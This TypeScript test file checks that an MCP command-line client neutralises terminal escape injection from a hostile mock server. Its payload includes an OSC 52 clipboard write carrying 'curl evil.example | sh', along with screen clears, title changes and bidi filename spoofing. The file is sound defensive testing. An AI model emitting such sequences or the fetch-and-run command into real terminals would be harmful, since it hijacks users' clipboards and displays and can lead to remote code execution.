// Hostile terminals (CONTRACT S1, K1, X2): a server whose every text field (tool names, descriptions,
// input-schema parameter names, call results, resources, prompts, its error messages) carries
// escape and OSC sequences, C1 controls, carriage returns, backspaces and bidirectional
// overrides. The built CLI is run against it over stdio and HTTP; nothing of that reaches its
// stdout or stderr raw, the controls are shown rather than lost, and `--json` output stays JSON
// that equals what the server sent.

import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { type CliRun, errorRecord, runCli } from "../helpers/cli.ts";
import type { HostileServer, StdioScript } from "../helpers/hostile.ts";
import {
  expectedDocument,
  type OutputDocument,
  outputServersForSuite,
  writeStoredToken,
} from "../helpers/output-server.ts";

const ESC = "\x1b";
const BEL = "\x07";

/** Every trick at once: OSC 52 clipboard write, screen clear, OSC 8 hyperlink, title, C1 CSI/OSC, CR, BS, bidi. */
const HOSTILE = [
  `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}${BEL}`,
  `${ESC}[2J${ESC}[3J${ESC}[H`,
  `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`,
  `${ESC}]0;pwned title${BEL}`,
  "\x9b31mC1 red\x9b0m \x9d0;c1 title\x9c \x85",
  "visible\rOVERWRITTEN",
  "abc\b\b\bxyz",
  "user\u202Egnp.exe\u202C \u2066iso\u2069 \u202A\u202B\u202D\u202C",
  "nul\x00 del\x7f vt\x0b ff\x0c line\u2028sep",
].join(" ");

const DOC: OutputDocument = {
  serverName: `srv${ESC}]0;title${BEL}`,
  tools: [
    {
      name: "echo",
      description: `Echoes. ${HOSTILE}`,
      inputSchema: {
        type: "object",
        properties: { [`p${ESC}[31m`]: { type: "string" }, "q\u202E": { type: `num${ESC}[2J` } },
      },
    },
    // The CLI calls only listed tools: these are the ones the tests call.
    { name: "structured", inputSchema: { type: "object" } },
    { name: "fail", inputSchema: { type: "object" } },
    {
      name: `evil${ESC}[2J\rtool\u202E`,
      title: HOSTILE,
      description: HOSTILE,
      inputSchema: { type: "object" },
    },
  ],
  call: {
    content: [
      { type: "text", text: `first line\r\nsecond\tcol ${HOSTILE}\n` },
      { type: "resource_link", uri: `x://${ESC}]52;c;AAAA${BEL}`, name: "n" },
      { type: "image", mimeType: `image/png${ESC}[2J`, data: "AAAA" },
    ],
  },
  structured: { content: [], structuredContent: { note: HOSTILE, [`k${ESC}[1m`]: "\u202Ev" } },
  resources: [
    { uri: "demo://resource/1", name: HOSTILE, description: HOSTILE, mimeType: "text/plain" },
    { uri: `evil://${ESC}[2J/\u202Ex`, name: "n", description: "d" },
  ],
  read: {
    contents: [
      { uri: "demo://resource/1", mimeType: "text/plain", text: `r1\r\nr2 ${HOSTILE}\n\tindented` },
      { uri: `b://${ESC}[2J`, mimeType: `x/y${ESC}[2J`, blob: "AAAA" },
    ],
  },
  prompts: [
    {
      name: `greet${ESC}[2J`,
      description: HOSTILE,
      arguments: [{ name: `a${ESC}[1m`, description: HOSTILE }],
    },
  ],
  prompt: {
    description: HOSTILE,
    messages: [
      { role: `user${ESC}[2J`, content: { type: "text", text: `hello\r\n${HOSTILE}` } },
      { role: "assistant", content: { type: "resource", resource: { uri: "r://x", text: HOSTILE } } },
    ],
  },
  errorMessage: `refused ${HOSTILE}`,
};

/** The first thing in `text` a terminal would act on; LF (and, in human output, nothing else) allowed. */
function firstUnsafe(text: string): string | undefined {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  const m = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.exec(text);
  return m
    ? `U+${m[0].charCodeAt(0).toString(16).padStart(4, "0")} at ${m.index} in ${JSON.stringify(text.slice(Math.max(0, m.index - 30), m.index + 30))}`
    : undefined;
}

function assertClean(run: CliRun, what: string): void {
  for (const [name, text] of [
    ["stdout", run.stdout],
    ["stderr", run.stderr],
  ] as const) {
    const bad = firstUnsafe(text);
    assert.equal(bad, undefined, `${what}: ${name} carries ${bad}`);
  }
}

const cacheDir = mkdtempSync(join(tmpdir(), "tether-terminal-cache-"));
const ENV = { TETHER_CACHE_DIR: cacheDir, TETHER_CONFIG_DIR: cacheDir };
after(() => rmSync(cacheDir, { recursive: true, force: true }));

/** Runs the CLI and checks S1 on every byte it wrote. */
async function cli(args: string[], what = args.slice(0, 2).join(" ")): Promise<CliRun> {
  const run = await runCli(args, { env: ENV, timeoutMs: 30_000 });
  assertClean(run, what);
  return run;
}

describe("hostile terminal text", () => {
  let stdio: StdioScript;
  let http: HostileServer;
  outputServersForSuite(DOC, (s, h) => ([stdio, http] = [s, h]));
  const viaStdio = (args: string[]) => [...args, "--", stdio.command, ...stdio.args];
  const expected = expectedDocument(DOC);

  test("S1: tools (names, descriptions, parameter names) are shown with controls visible, over stdio and HTTP", async () => {
    for (const args of [viaStdio(["tools"]), ["tools", http.url]]) {
      const run = await cli(args);
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /Echoes\. \\x1b\]52;c;/, "OSC 52 shown, not sent");
      assert.match(run.stdout, /p\\x1b\[31m\?: string/, "a parameter name's escape shown");
      assert.match(run.stdout, /evil\\x1b\[2J\\x0dtool\\u202e/, "a tool name's controls shown");
    }
  });

  test("S1: tools --json is exact JSON equal to what the server sent, with nothing raw in it", async () => {
    for (const args of [viaStdio(["tools", "--json"]), ["tools", http.url, "--json"]]) {
      const run = await cli(args);
      assert.equal(run.code, 0, run.stderr);
      assert.deepEqual(JSON.parse(run.stdout), { tools: expected.tools });
      assert.match(run.stdout, /\\u202e/, "bidi override escaped inside the JSON string");
      assert.match(run.stdout, /\\u009b/, "C1 escaped inside the JSON string");
    }
  });

  test("S1: a call's text keeps its lines, loses nothing, and never returns the cursor", async () => {
    for (const args of [viaStdio(["call", "echo"]), ["call", http.url, "echo"]]) {
      const run = await cli(args);
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /^first line\nsecond {2}col \\x1b\]52;c;/, "CRLF became LF, the tab spaces");
      assert.match(run.stdout, /visible\\x0dOVERWRITTEN/);
      assert.match(run.stdout, /abc\\x08\\x08\\x08xyz/);
      assert.match(run.stdout, /\[resource link x:\/\/\\x1b\]52;c;AAAA\\x07\]/);
      assert.match(run.stdout, /\[image image\/png\\x1b\[2J 3 bytes\]/);
    }
    const json = await cli(viaStdio(["call", "echo", "--json"]));
    assert.deepEqual(JSON.parse(json.stdout), expected.call);
    const structured = await cli(viaStdio(["call", "structured"]));
    assert.deepEqual(JSON.parse(structured.stdout), expected.structured.structuredContent);
    const structuredJson = await cli(viaStdio(["call", "structured", "--json"]));
    assert.deepEqual(JSON.parse(structuredJson.stdout), expected.structured);
  });

  test("S1: resources, a read, prompts and a prompt are shown sanitized; --json equals the server's", async () => {
    const resources = await cli(viaStdio(["resources"]));
    assert.match(resources.stdout, /demo:\/\/resource\/1/);
    assert.match(resources.stdout, /evil:\/\/\\x1b\[2J\/\\u202ex/);
    const read = await cli(viaStdio(["read", "demo://resource/1"]));
    assert.match(read.stdout, /^r1\nr2 \\x1b\]52/);
    assert.match(read.stdout, /\n {8}indented\n/);
    assert.match(read.stdout, /\[binary x\/y\\x1b\[2J b:\/\/\\x1b\[2J\]/);
    const prompts = await cli(viaStdio(["prompts"]));
    assert.match(prompts.stdout, /greet\\x1b\[2J/);
    const prompt = await cli(viaStdio(["prompt", "greet"]));
    assert.match(prompt.stdout, /^user\\x1b\[2J: hello\n\\x1b\]52/);
    for (const [args, value] of [
      [["resources", "--json"], { resources: expected.resources }],
      [["read", "demo://resource/1", "--json"], expected.read],
      [["prompts", "--json"], { prompts: expected.prompts }],
      [["prompt", "greet", "--json"], expected.prompt],
    ] as const) {
      const run = await cli(viaStdio([...args]));
      assert.equal(run.code, 0, run.stderr);
      assert.deepEqual(JSON.parse(run.stdout), value, args.join(" "));
    }
  });

  test("S1/K1: the server's error text reaches the record's rpcMessage visible and inert", async () => {
    for (const args of [
      viaStdio(["call", "fail"]),
      ["call", http.url, "fail"],
      viaStdio(["read", "fail://x"]),
    ]) {
      const run = await cli(args);
      assert.equal(run.stdout, "");
      assert.equal(run.stderr.trim().split("\n").length, 1, run.stderr);
      const record = errorRecord(run);
      assert.equal(record.code, "remote_error");
      const rpc = String(record.rpcMessage);
      assert.equal(firstUnsafe(rpc), undefined, "the parsed record's text is clean too");
      assert.match(rpc, /^refused \\x1b\]52;c;/);
      assert.equal(firstUnsafe(String(record.message)), undefined);
    }
    const debug = await cli(viaStdio(["call", "fail", "--debug"]));
    assert.equal(firstUnsafe(JSON.stringify(errorRecord(debug))), undefined);
  });

  test("S1: probe and auth status print nothing raw, whatever the target and the stored issuer say", async () => {
    const probe = await cli(viaStdio(["probe"]));
    assert.equal(probe.code, 0, probe.stderr);
    const probeJson = await cli(viaStdio(["probe", "--json"]));
    assert.equal(
      (JSON.parse(probeJson.stdout) as { results: { outcome: string }[] }).results[0]?.outcome,
      "ok",
    );
    const configDir = mkdtempSync(join(tmpdir(), "tether-terminal-auth-"));
    try {
      const url = "http://127.0.0.1:9/mcp";
      writeStoredToken(configDir, url, {
        issuer: `https://as.example/${ESC}]52;c;AAAA${BEL}\u202E`,
        accessToken: "at-0123456789abcdef",
        scope: `read\x9b2J write${ESC}[2J`,
      });
      for (const json of [false, true]) {
        const run = await runCli(["auth", "status", url, ...(json ? ["--json"] : [])], {
          env: { ...ENV, TETHER_CONFIG_DIR: configDir },
        });
        assert.equal(run.code, 0, run.stderr);
        assertClean(run, `auth status json=${json}`);
        assert.ok(!run.stdout.includes("at-0123456789abcdef"));
        if (json)
          assert.ok(String((JSON.parse(run.stdout) as { issuer: string }).issuer).includes(`${ESC}]52`));
        else assert.match(run.stdout, /issuer\s+https:\/\/as\.example\/\\x1b\]52;c;AAAA\\x07\\u202e/);
      }
    } finally {
      rmSync(configDir, { recursive: true, force: true });
    }
  });
});
